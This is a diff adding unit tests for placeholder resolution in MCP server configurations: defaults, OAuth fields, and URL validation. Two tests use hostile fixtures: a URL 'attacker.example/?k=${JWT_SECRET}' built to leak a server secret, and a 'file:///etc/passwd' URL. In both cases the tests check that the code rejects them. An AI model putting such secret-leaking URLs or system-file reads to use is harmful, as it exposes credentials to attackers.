@@ -113,3 +113,86 @@ describe('placeholders', () => {
     ]);
   });
 });
+
+describe('environment placeholders, more forms', () => {
+  it('take the default of ${VAR:-default} when VAR is unset or empty', () => {
+    const config = parseServerConfig({
+      type: 'stdio',
+      command: 'x',
+      env: { A: '${EMAIL:-me@example.com}', B: '${SET:-no}' },
+    });
+    expect(resolvePlaceholders(config, { SET: 'yes' })).toMatchObject({ env: { A: 'me@example.com', B: 'yes' } });
+    expect(resolvePlaceholders(config, { EMAIL: '', SET: '' })).toMatchObject({
+      env: { A: 'me@example.com', B: 'no' },
+    });
+  });
+
+  it('resolve OAuth fields, OAuth headers and the admin API key too', () => {
+    const config = parseServerConfig({
+      type: 'streamable-http',
+      url: 'https://x.example/mcp',
+      oauth: { client_id: '${CID}', client_secret: '${CSECRET}', token_url: 'https://${AUTH_HOST}/token' },
+      oauth_headers: { 'X-Tenant': '${TENANT}' },
+      apiKey: { source: 'admin', key: '${API_KEY}', authorization_type: 'bearer' },
+    });
+    expect(listPlaceholders(config)).toEqual(['AUTH_HOST', 'CID', 'CSECRET', 'TENANT', 'API_KEY']);
+    const env = { CID: 'c', CSECRET: 's', AUTH_HOST: 'auth.example', TENANT: 't', API_KEY: 'k' };
+    expect(resolvePlaceholders(config, env)).toMatchObject({
+      oauth: { client_id: 'c', client_secret: 's', token_url: 'https://auth.example/token' },
+      oauth_headers: { 'X-Tenant': 't' },
+      apiKey: { key: 'k' },
+    });
+  });
+
+  it('are never resolved in a user-supplied config, even one written to the store directly', () => {
+    const stored = {
+      ...parseServerConfig({ type: 'streamable-http', url: 'https://attacker.example/?k=${JWT_SECRET}' }),
+      userSupplied: true as const,
+    };
+    let thrown: unknown;
+    try {
+      resolvePlaceholders(stored, { JWT_SECRET: 'server-jwt-secret' });
+    } catch (error) {
+      thrown = error;
+    }
+    expect(thrown).toBeInstanceOf(ValidationError);
+    expect((thrown as ValidationError).issues.map((issue) => issue.path)).toEqual(['url']);
+    expect(JSON.stringify(thrown)).not.toContain('server-jwt-secret');
+    expect((thrown as ValidationError).message).not.toContain('server-jwt-secret');
+  });
+});
+
+describe('URLs made of placeholders', () => {
+  it('accept a URL that is one placeholder, or starts with one, and check it again once resolved', () => {
+    const whole = parseServerConfig({ type: 'streamable-http', url: '${MCP_URL}' });
+    const based = parseServerConfig({ type: 'sse', url: '${BASE}/sse?x=1' });
+    expect(resolvePlaceholders(whole, { MCP_URL: 'https://mcp.example.com/mcp' })).toMatchObject({
+      url: 'https://mcp.example.com/mcp',
+    });
+    expect(resolvePlaceholders(based, { BASE: 'http://10.1.2.3:8000' })).toMatchObject({
+      url: 'http://10.1.2.3:8000/sse?x=1',
+    });
+    for (const [config, env] of [
+      [whole, { MCP_URL: 'file:///etc/passwd' }],
+      [whole, { MCP_URL: 'not a url' }],
+      [based, { BASE: 'ftp://files.example' }],
+    ] as const) {
+      let thrown: unknown;
+      try {
+        resolvePlaceholders(config, env);
+      } catch (error) {
+        thrown = error;
+      }
+      expect(thrown).toBeInstanceOf(ValidationError);
+      expect((thrown as ValidationError).issues).toEqual([
+        { path: 'url', message: expect.stringMatching(/^once resolved, must/) as unknown },
+      ]);
+    }
+  });
+
+  it('a placeholder in the host passes the URL check', () => {
+    expect(parseServerConfig({ type: 'websocket', url: 'wss://${WS_HOST}:${PORT}/mcp' })).toBeDefined();
+    expect(parseServerConfig({ type: 'streamable-http', url: 'https://${input:domain}/mcp' })).toBeDefined();
+    expect(parseServerConfig({ type: 'streamable-http', url: 'https://{{TENANT}}.example.com/mcp' })).toBeDefined();
+  });
+});
